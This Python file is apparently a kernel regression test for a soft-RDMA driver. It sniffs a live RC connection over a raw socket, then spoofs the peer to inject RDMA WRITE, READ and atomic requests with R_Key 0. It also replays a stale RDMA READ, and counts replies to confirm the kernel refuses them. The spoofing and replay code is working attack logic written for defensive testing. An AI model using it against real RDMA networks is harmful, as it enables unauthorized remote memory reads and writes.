#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Attack a live kernel RC connection from a raw socket (softib-rkey0.sh).

softib-rkey0.py NETDEV DLID GO_FILE WRITE_VA READ_VA
softib-rkey0.py dupread LISTEN SEND SLID GO_FILE

What a host on the segment can do: listen on NETDEV (AF_PACKET, EtherType
0x88b5) for RC requests that leave it for DLID (SEND and RDMA WRITE
opcodes, LRH without GRH), and learn from them the destination QPN, the
last PSN, the SLID, the P_Key and both MAC addresses. Once that QP has
had no request for a second, print what was learned; once GO_FILE exists
(the test has compared it with the kernel's view; a request meanwhile
ends this with exit 3), send to it, as its peer (the learned SLID and
source MAC), with the next PSN (the responder's r_psn):

  - RDMA WRITE ONLY, R_Key 0, VA WRITE_VA, 8 bytes "rkey0!" + NULs;
  - RDMA READ request, R_Key 0, VA READ_VA, 8 bytes;
  - FETCH_ADD, R_Key 0, VA READ_VA rounded down to 8, add 0.

Then listen 2 s more and count the answers that come in from DLID. Prints
"learned DLID SLID QPN PSN NEXT", "sent 3 NEXT", then
"answers read_resp=N atomic_ack=N nak_rem_access=N nak_inv_req=N ack=N".
Exit 2 if nothing was learned within 60 s.

softib-rkey0.py dupread LISTEN SEND SLID GO_FILE

A stale duplicate RDMA READ (ulp-srp-softib.sh): keep the last RDMA READ
request that came in on LISTEN from SLID (a socket filter passes only READ
requests, so that the data of the I/O cannot crowd it out), and once
GO_FILE exists (the I/O is done, the ULP has invalidated the MR the READ
named) send that frame again, as it was, from SEND (the requester's
carrier), then count for 2 s the READ responses that leave LISTEN for
SLID. Prints "reads N", "replayed PSN VA RKEY LEN", "answers read_resp=N".
"""
import ctypes
import importlib.util
import os
import socket
import struct
import sys
import time

ETHERTYPE = 0x88B5
ETH_P_ALL = 0x0003
SO_RCVBUFFORCE = 33
SO_ATTACH_FILTER = 26

SEND_WRITE_OPS = range(0x00, 0x0C)          # RC SEND*, RDMA WRITE*
OP_WRITE_ONLY, OP_READ_REQ, OP_FETCH_ADD = 0x0A, 0x0C, 0x14
OP_ACK, OP_ATOMIC_ACK = 0x11, 0x12
READ_RESPONSES = range(0x0D, 0x11)
NAK_INV_REQ, NAK_REM_ACCESS = 0x61, 0x62


def rawsend():
    """softib-rawsend.py's ICRC (computed independently of the driver)."""
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                        "softib-rawsend.py")
    spec = importlib.util.spec_from_file_location("sib_rawsend", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def psn_after(a, b):
    """24-bit serial order: a is after b."""
    return 0 < ((a - b) & 0xFFFFFF) < 0x800000


def rc_packet(icrc, dlid, slid, pkey, dqpn, psn, opcode, ext, payload=b""):
    pad = -len(payload) & 3
    bth = struct.pack(">BBHII", opcode, pad << 4, pkey, dqpn & 0xFFFFFF,
                      (1 << 31) | (psn & 0xFFFFFF))
    body = bth + ext + payload + bytes(pad)
    words = (8 + len(body) + 4) // 4
    lrh = struct.pack(">BBHHH", 0, 2, dlid, words, slid)
    pkt = lrh + body
    return pkt + icrc(pkt)


def ib_of(frame):
    """The IB packet of a softib frame, else None (the sockets below see
    every EtherType: a socket bound to one protocol is not shown the
    frames its own host sends, only ETH_P_ALL sockets are)."""
    if len(frame) < 14 + 8 or \
            struct.unpack_from(">H", frame, 12)[0] != ETHERTYPE:
        return None
    return frame[14:]


def request(s, dlid):
    """The next frame, if an RC request that left for dlid: (dqpn, psn,
    slid, pkey, dst MAC, src MAC)."""
    try:
        frame, addr = s.recvfrom(128)
    except (socket.timeout, InterruptedError):
        return None
    ib = ib_of(frame)
    if addr[2] != socket.PACKET_OUTGOING or not ib or len(ib) < 20:
        return None
    if ib[1] & 3 != 2 or struct.unpack_from(">H", ib, 2)[0] != dlid or \
            ib[8] not in SEND_WRITE_OPS:
        return None
    return (struct.unpack_from(">I", ib, 12)[0] & 0xFFFFFF,
            struct.unpack_from(">I", ib, 16)[0] & 0xFFFFFF,
            struct.unpack_from(">H", ib, 6)[0],
            struct.unpack_from(">H", ib, 10)[0], frame[0:6], frame[6:12])


def sock(dev, insns=None):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                      socket.htons(ETH_P_ALL))
    if insns:
        # classic BPF; the program must live until it is attached
        prog = ctypes.create_string_buffer(
            b"".join(struct.pack("HBBI", *i) for i in insns))
        s.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER,
                     struct.pack("HL", len(insns), ctypes.addressof(prog)))
    s.bind((dev, ETH_P_ALL))
    try:
        s.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 8 << 20)
    except OSError:
        pass
    s.settimeout(0.1)
    return s


def frames_for(s, secs):
    """What s receives in the next secs seconds: (frame, address)."""
    end = time.monotonic() + secs
    while time.monotonic() < end:
        try:
            yield s.recvfrom(128)
        except (socket.timeout, InterruptedError):
            continue


def dupread(listen, send, slid, go):
    # ldh [12] (EtherType); jeq softib's, else drop; ldb [14 + 8] (the
    # BTH opcode); jeq READ request; accept; drop
    r = sock(listen, [(0x28, 0, 0, 12), (0x15, 0, 3, ETHERTYPE),
                      (0x30, 0, 0, 22), (0x15, 0, 1, OP_READ_REQ),
                      (0x06, 0, 0, 0xFFFF), (0x06, 0, 0, 0)])
    print("listening", flush=True)
    last, n = None, 0
    end = time.monotonic() + 120
    while not os.path.exists(go):
        if time.monotonic() > end:
            print("no go", flush=True)
            return 2
        try:
            frame, addr = r.recvfrom(256)
        except (socket.timeout, InterruptedError):
            continue
        ib = frame[14:]
        if addr[2] == socket.PACKET_OUTGOING or len(ib) < 40 or \
                ib[1] & 3 != 2 or struct.unpack_from(">H", ib, 6)[0] != slid:
            continue
        last, n = frame, n + 1
    print("reads %d" % n, flush=True)
    if not last:
        return 2
    # what arrived while the test decided to go
    while True:
        try:
            frame, addr = r.recvfrom(256)
        except (socket.timeout, InterruptedError):
            break
        if addr[2] != socket.PACKET_OUTGOING and len(frame) >= 54 and \
                frame[15] & 3 == 2 and \
                struct.unpack_from(">H", frame, 20)[0] == slid:
            last = frame
    r.close()
    w = sock(listen)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((send, 0))
    ib = last[14:]
    psn = struct.unpack_from(">I", ib, 16)[0] & 0xFFFFFF
    va, rkey, ln = struct.unpack_from(">QII", ib, 20)
    out.send(last)
    print("replayed %d 0x%x 0x%x %d" % (psn, va, rkey, ln), flush=True)
    resp = 0
    for frame, addr in frames_for(w, 2):
        ib = ib_of(frame)
        if ib and addr[2] == socket.PACKET_OUTGOING and len(ib) >= 20 and \
                ib[1] & 3 == 2 and \
                struct.unpack_from(">H", ib, 2)[0] == slid and \
                ib[8] in READ_RESPONSES:
            resp += 1
    print("answers read_resp=%d" % resp, flush=True)
    return 0


def main():
    if sys.argv[1] == "dupread":
        return dupread(sys.argv[2], sys.argv[3], int(sys.argv[4], 0),
                       sys.argv[5])
    dev, dlid, go = sys.argv[1], int(sys.argv[2], 0), sys.argv[3]
    write_va, read_va = int(sys.argv[4], 0), int(sys.argv[5], 0)
    icrc = rawsend().icrc
    s = sock(dev)
    print("listening", flush=True)

    # Learn: the last request that left for DLID, and a second of quiet.
    seen = None             # (dqpn, psn, slid, pkey, dst_mac, src_mac)
    last = 0.0
    end = time.monotonic() + 60
    while time.monotonic() < end:
        if seen and time.monotonic() - last >= 1.0:
            break
        req = request(s, dlid)
        if not req:
            continue
        if seen and seen[0] == req[0] and not psn_after(req[1], seen[1]):
            last = time.monotonic()
            continue        # a retransmission: the highest PSN counts
        seen = req
        last = time.monotonic()
    if not seen:
        print("learned nothing", flush=True)
        return 2
    dqpn, psn, slid, pkey, dst, src = seen
    nxt = (psn + 1) & 0xFFFFFF
    print("learned %d %d 0x%x %d %d" % (dlid, slid, dqpn, psn, nxt),
          flush=True)
    # The test compares that with the kernel's view, then says go; a
    # request meanwhile would make the PSN stale.
    end = time.monotonic() + 30
    while not os.path.exists(go):
        if time.monotonic() > end:
            print("no go", flush=True)
            return 2
        if request(s, dlid):
            print("traffic to the QP after learning", flush=True)
            return 3

    eth = dst + src + struct.pack(">H", ETHERTYPE)
    data = b"rkey0!\0\0"
    frames = [
        rc_packet(icrc, dlid, slid, pkey, dqpn, nxt, OP_WRITE_ONLY,
                  struct.pack(">QII", write_va, 0, len(data)), data),
        rc_packet(icrc, dlid, slid, pkey, dqpn, nxt, OP_READ_REQ,
                  struct.pack(">QII", read_va, 0, 8)),
        rc_packet(icrc, dlid, slid, pkey, dqpn, nxt, OP_FETCH_ADD,
                  struct.pack(">QIQQ", read_va & ~7, 0, 0, 0)),
    ]
    for f in frames:
        s.send(eth + f)
        time.sleep(0.05)
    print("sent %d %d" % (len(frames), nxt), flush=True)

    # The answers from DLID to us (its peer): none may carry data.
    n = dict(read_resp=0, atomic_ack=0, nak_rem_access=0, nak_inv_req=0,
             ack=0)
    for frame, addr in frames_for(s, 2):
        ib = ib_of(frame)
        if addr[2] == socket.PACKET_OUTGOING or not ib or len(ib) < 24:
            continue
        if ib[1] & 3 != 2 or struct.unpack_from(">H", ib, 6)[0] != dlid:
            continue
        op = ib[8]
        if op in READ_RESPONSES:
            n["read_resp"] += 1
        elif op == OP_ATOMIC_ACK:
            n["atomic_ack"] += 1
        elif op == OP_ACK:
            syn = ib[20]
            if syn == NAK_REM_ACCESS:
                n["nak_rem_access"] += 1
            elif syn == NAK_INV_REQ:
                n["nak_inv_req"] += 1
            elif syn & 0x60 == 0:
                n["ack"] += 1
    print("answers " + " ".join("%s=%d" % kv for kv in n.items()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
